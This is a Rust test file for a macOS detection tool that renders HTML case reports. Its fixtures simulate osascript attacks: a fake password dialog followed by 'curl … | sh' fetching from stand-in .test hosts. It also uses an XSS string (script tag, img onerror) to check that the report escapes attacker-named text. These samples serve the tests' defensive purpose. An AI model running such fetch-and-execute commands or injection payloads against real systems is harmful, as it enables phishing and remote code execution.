//! The case report: the page that a responder hands on, as a file and in a browser.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::util::{fixtures, osawatch};

/// What an attacker may name a program, a file or a host.
const HOSTILE: &str =
    "\"'></text></title></pre></svg><script>document.title='owned'</script><img src=x onerror=a()>\u{202e}";

fn event(millisecond: u64, host: usize, category: &str, process: &Value, destination: Value) -> String {
    let (second, rest) = (millisecond / 1000, millisecond % 1000);
    let time = format!("2026-03-01T{:02}:{:02}:{:02}.{rest:03}Z", 9 + second / 3600, second / 60 % 60, second % 60);
    let mut event = json!({
        "@timestamp": time, "event": {"id": format!("{host}-{millisecond}"), "category": [category], "type": ["start"]},
        "host": {"id": format!("H{host}"), "name": format!("mac-{host}"), "os": {"type": "macos"}},
        "user": {"name": "ada"}, "process": process,
    });
    event["event"]["action"] = if category == "process" { "exec" } else { "connection_attempted" }.into();
    if !destination.is_null() {
        event["destination"] = destination;
    }
    event.to_string() + "\n"
}

/// Attacks on six Macs, each with an alert and a follow-up: osascript connects, and then the curl that it ran.
fn attacks(count: u64, name: &str) -> String {
    let mut out = String::new();
    for number in 0..count {
        let (host, start) = (number as usize % 6, number * 95_000);
        let url = format!("https://c{}.test/{number}", number % 4);
        let script =
            format!("display dialog \"Password?\" with hidden answer\ndo shell script \"curl {url} | sh\" -- {name}");
        let (parent, id) = (
            json!({"entity_id": format!("p{host}"), "name": name, "executable": "/Volumes/x/Install",
            "code_signature": {"exists": false}}),
            |kind: &str| format!("{kind}{number}"),
        );
        let osascript = json!({"entity_id": id("o"), "pid": 500 + number * 3, "name": "osascript", "parent": parent,
            "executable": "/usr/bin/osascript", "args": ["osascript", "-e", script], "hash": {"sha256": "ab".repeat(32)}});
        let sh = json!({"entity_id": id("s"), "pid": 501 + number * 3, "name": "sh", "args": ["sh", "-c", format!("curl {url}")],
            "command_line": format!("sh -c curl {url} | sh"), "parent": {"entity_id": id("o")}});
        let curl = json!({"entity_id": id("c"), "pid": 502 + number * 3, "name": "curl", "args": ["curl", url],
            "command_line": format!("curl {url}"), "parent": {"entity_id": id("s")}});
        let place = |ip: u64, domain: &str| json!({"ip": format!("93.184.216.{ip}"), "port": 443, "domain": domain});
        out += &event(start, host, "process", &osascript, Value::Null);
        out += &event(start + 200, host, "process", &sh, Value::Null);
        out += &event(start + 400, host, "process", &curl, Value::Null);
        out += &event(start + 1500, host, "network", &osascript, place(3, "api.test"));
        out += &event(
            start + 2500,
            host,
            "network",
            &curl,
            place(34 + number % 4, &format!("{name}.c{}.test", number % 4)),
        );
    }
    out
}

/// The page of a recording, in this folder.
fn page(folder: &Path, recording: &str) -> PathBuf {
    let path = |name: &str| folder.join(name).display().to_string();
    fs::write(path("events.ndjson"), recording).unwrap();
    osawatch(&["replay", "--output", "none", "--html", &path("case.html"), &path("events.ndjson")]).exits(0);
    folder.join("case.html")
}

#[test]
fn a_follow_up_belongs_to_its_incident_and_is_no_alert_of_its_own() {
    let folder = tempfile::tempdir().unwrap();
    let page = fs::read_to_string(page(folder.path(), &attacks(2, "x"))).unwrap();
    assert!(page.contains("<h1>2 incidents, 2 alerts</h1>"));
    assert_eq!(page.matches("<td>ALERT: ").count(), 2, "on the timeline");
    assert!(!page.contains("What to check: Follow-up"));
}

#[test]
fn the_page_is_the_golden_one() {
    let folder = tempfile::tempdir().unwrap();
    let page = fs::read_to_string(page(folder.path(), &attacks(2, "Install"))).unwrap();
    let (head, rest) = page.split_once("<style>").unwrap();
    let (_, body) = rest.split_once("</style>").unwrap();
    let (body, _) = body.split_once("<footer>").unwrap();
    let version = concat!("osawatch ", env!("CARGO_PKG_VERSION"));
    let found = format!("{}{body}", head.replace(version, "osawatch VERSION"));
    let golden = fixtures().join("case_report.html");
    if std::env::var_os("OSAWATCH_ACCEPT").is_some() {
        fs::write(&golden, &found).unwrap();
    }
    let expected = fs::read_to_string(golden).unwrap();
    for (number, (found, expected)) in found.lines().zip(expected.lines()).enumerate() {
        assert_eq!(found, expected, "line {}", number + 1);
    }
    assert_eq!(found, expected);
}

#[test]
fn hostile_text_is_text_in_every_element_attribute_and_drawing() {
    let folder = tempfile::tempdir().unwrap();
    let page = fs::read_to_string(page(folder.path(), &attacks(14, HOSTILE))).unwrap();
    assert!(!page.contains("<script") && !page.contains("<img") && !page.contains('\u{202e}'));
    assert!(page.matches("&lt;script&gt;document.title").count() > 50);
    for tag in ["article", "table", "pre", "svg", "text", "title", "section", "ul", "details", "circle"] {
        let (opened, closed) = (page.matches(&format!("<{tag}")).count(), page.matches(&format!("</{tag}>")).count());
        assert_eq!(opened, closed, "{tag}");
    }
}

/// Chromium on a page.
struct Browser {
    folder: tempfile::TempDir,
    program: &'static str,
}

impl Browser {
    fn start() -> Browser {
        let programs = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"];
        let program = programs.into_iter().find(|program| Path::new(program).exists()).expect("Chromium is installed");
        Browser { folder: tempfile::tempdir().unwrap(), program }
    }

    fn look(&self, page: &Path, args: &[&str]) -> String {
        let mut command = Command::new(self.program);
        command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--hide-scrollbars"]);
        command.arg(format!("--user-data-dir={}", self.folder.path().display())).args(args);
        let output = command.arg(format!("file://{}", page.display())).output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    /// What a script of the test measures in a copy of the page that lets it run.
    fn measure(&self, page: &Path, script: &str, args: &[&str]) -> String {
        let text = fs::read_to_string(page).unwrap().replace("http-equiv=\"Content-Security-Policy\"", "");
        let copy = self.folder.path().join("copy.html");
        fs::write(&copy, format!("{text}<script>document.body.textContent = {script}</script>")).unwrap();
        let seen = self.look(&copy, &[&["--dump-dom"], args].concat());
        seen.split_once("<body>").unwrap().1.split_once("</body>").unwrap().0.trim().to_owned()
    }
}

#[test]
#[ignore = "needs Chromium: apt-get install chromium"]
fn the_page_fits_a_phone_and_a_wide_screen_in_light_and_dark_and_runs_nothing() {
    let (folder, browser) = (tempfile::tempdir().unwrap(), Browser::start());
    let page = page(folder.path(), &attacks(3, HOSTILE));
    let artefacts = Path::new(env!("CARGO_TARGET_TMPDIR"));
    for (width, dark) in [(500, false), (500, true), (1280, false), (1280, true)] {
        let size = format!("--window-size={width},3000");
        let scheme = format!("--blink-settings=preferredColorScheme={}", u8::from(!dark));
        let found = browser.measure(&page, "document.documentElement.scrollWidth", &[&size, &scheme]);
        assert!(found.parse::<u32>().unwrap() <= width, "{found} of {width}");
        let found = browser.measure(&page, "getComputedStyle(document.body).color", &[&size, &scheme]);
        assert_eq!(found, if dark { "rgb(255, 255, 255)" } else { "rgb(0, 0, 0)" });
        let shot = artefacts.join(format!("case-{width}-{}.png", if dark { "dark" } else { "light" }));
        browser.look(&page, &[&size, &scheme, &format!("--screenshot={}", shot.display())]);
        assert!(fs::metadata(&shot).unwrap().len() > 50_000, "{}", shot.display());
    }
    let with = browser.look(&page, &["--dump-dom"]);
    assert!(!with.contains("<script"), "it has none");
    assert!(with.contains("<title>osawatch: "), "nothing took the title over");
}

#[test]
#[ignore = "needs Chromium: apt-get install chromium"]
fn seventy_four_alerts_print_on_at_most_25_pages() {
    let (folder, browser) = (tempfile::tempdir().unwrap(), Browser::start());
    let page = page(folder.path(), &attacks(74, "Install"));
    assert!(fs::read_to_string(&page).unwrap().contains(", 74 alerts</h1>"));
    let pdf = Path::new(env!("CARGO_TARGET_TMPDIR")).join("case.pdf");
    browser.look(&page, &[&format!("--print-to-pdf={}", pdf.display()), "--no-pdf-header-footer"]);
    let pages = regex::bytes::Regex::new(r"/Type\s*/Page\b").unwrap().find_iter(&fs::read(&pdf).unwrap()).count();
    assert!((1..=25).contains(&pages), "{pages} pages");
}
